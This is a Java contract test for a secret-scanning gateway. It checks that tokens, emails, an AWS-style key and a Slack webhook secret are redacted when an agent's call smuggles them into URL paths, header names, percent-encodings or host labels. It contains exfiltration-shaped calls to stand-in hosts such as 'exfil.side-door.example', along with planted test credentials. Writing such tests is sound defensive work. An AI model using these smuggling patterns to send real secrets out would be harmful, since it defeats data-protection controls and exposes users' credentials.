package io.interven.gateway.contract;

import static io.interven.gateway.contract.PlantedValues.EMAIL;
import static io.interven.gateway.contract.PlantedValues.GITHUB_TOKEN;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.interven.gateway.testing.DatabaseRows;
import io.interven.gateway.testing.GatewayHarness;
import io.interven.gateway.testing.HttpResult;
import io.interven.gateway.testing.TenantFixture;
import io.interven.gateway.testing.TestDatabase;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;

/**
 * Values the scan found never reach the database, nor the findings and signals of an answer, through the texts
 * that describe a call: an e-mail address used as a header name, a token as the agent's name, a token and an
 * address percent-encoded in the URL path, an access key as a host label, a webhook URL's secret in the path.
 * Every table is searched over JDBC, ignoring case. Each value is also where today's slots find it (the body, the
 * URL, the agent's name): the side door is found from the findings, whatever slot they were found in.
 */
abstract class SideDoorsNeverPersistContract {
    static final String AWS_KEY = "AKIA" + "Q3EGUJFX7YLP2K4M";
    static final String WEBHOOK_SECRET = "iu6z9SkTIvTnJIHI1VQL71hE";
    static final String WEBHOOK = "https://hooks.slack.com/services/T99HO35UNJ5/B6SNMP9P9II/" + WEBHOOK_SECRET;

    abstract String database();

    /** Every byte of {@code value} as a percent escape. */
    static String percentEncodedEveryByte(String value) {
        StringBuilder out = new StringBuilder();
        for (byte b : value.getBytes(StandardCharsets.UTF_8)) {
            out.append(String.format("%%%02X", b & 0xff));
        }
        return out.toString();
    }

    /** Calls that carry found values into the texts that describe them. */
    static List<Map<String, Object>> sideDoorCalls() {
        Map<String, String> emailAsHeaderName = new LinkedHashMap<>();
        emailAsHeaderName.put(EMAIL, AWS_KEY);
        emailAsHeaderName.put("X-Note", "for " + EMAIL);
        return List.of(
                Map.of("method", "POST", "agent_name", GITHUB_TOKEN,
                        "url", "https://collector.side-door.example/files/" + percentEncodedEveryByte(GITHUB_TOKEN)
                                + "/" + EMAIL.replace("@", "%40"),
                        "headers", emailAsHeaderName,
                        "body", Map.of("note", "token " + GITHUB_TOKEN + " for " + EMAIL)),
                Map.of("method", "POST", "agent_name", "helper for " + EMAIL,
                        "url", "https://hooks.slack.com/services/T1/B1/x", "body", Map.of("text", "hello")),
                Map.of("method", "GET", "url", "https://" + AWS_KEY + ".exfil.side-door.example/x",
                        "headers", Map.of("Authorization", "Bearer " + GITHUB_TOKEN)),
                Map.of("method", "POST", "url", WEBHOOK, "body", Map.of("text", "deploy done")));
    }

    /** Lower-case needles: the planted values, their distinctive pieces and their percent-encodings. */
    static Set<String> needles() {
        Set<String> needles = new LinkedHashSet<>(PlantedValues.needles());
        needles.addAll(List.of(AWS_KEY, AWS_KEY.substring(4), WEBHOOK_SECRET, percentEncodedEveryByte(GITHUB_TOKEN)));
        Set<String> lower = new LinkedHashSet<>();
        needles.forEach(n -> lower.add(n.toLowerCase(Locale.ROOT)));
        return lower;
    }

    static List<String> leaksIn(String where, String text) {
        String lower = text.toLowerCase(Locale.ROOT);
        List<String> found = new ArrayList<>();
        for (String needle : needles()) {
            if (lower.contains(needle)) {
                found.add(where + ": " + needle);
            }
        }
        return found;
    }

    @Test
    void foundValuesReachNeitherTheDatabaseNorTheAnswersFindingsThroughSideDoors() {
        TestDatabase database = TestDatabase.fresh(database());
        try (GatewayHarness gateway = GatewayHarness.on(database).start()) {
            TenantFixture tenant = gateway.newTenant();
            List<String> leaks = new ArrayList<>();
            List<String> traceIds = new ArrayList<>();
            for (Map<String, Object> call : sideDoorCalls()) {
                HttpResult answer = tenant.scan(call);
                assertThat(answer.status()).as(answer.text()).isEqualTo(200);
                JsonNode json = answer.json();
                assertThat(json.path("reason_codes").toString()).as(answer.text()).doesNotContain("PIPELINE_FAILURE");
                String where = "answer to " + call.get("url");
                leaks.addAll(leaksIn(where + " findings", json.path("findings").toString()));
                leaks.addAll(leaksIn(where + " signals", json.path("signals").toString()));
                leaks.addAll(leaksIn(where + " tool", json.path("tool_name").asText() + json.path("operation")));
                traceIds.add(json.path("trace_id").asText());
            }
            traceIds.forEach(id -> TraceReader.awaitTrace(tenant, id));

            Map<String, String> tables = DatabaseRows.everyTable(database);
            assertThat(tables.get("traces")).as("every trace was written").contains(traceIds);
            assertThat(tables.get("traces")).as("the markers stand where the values were")
                    .contains("[REDACTED:GITHUB_TOKEN]", "[REDACTED:EMAIL_ADDRESS]", "[REDACTED:AWS_ACCESS_KEY_ID]");
            assertThat(DatabaseRows.column(database, "SELECT policy_input FROM traces"))
                    .as("every trace stored the policy input its decision was made on, searched with every column")
                    .hasSize(traceIds.size()).allSatisfy(input -> assertThat(input).contains("\"verb\""));
            tables.forEach((table, text) -> leaks.addAll(leaksIn("table " + table, text)));
            assertThat(leaks).as("found values that passed a side door").isEmpty();
        }
    }
}
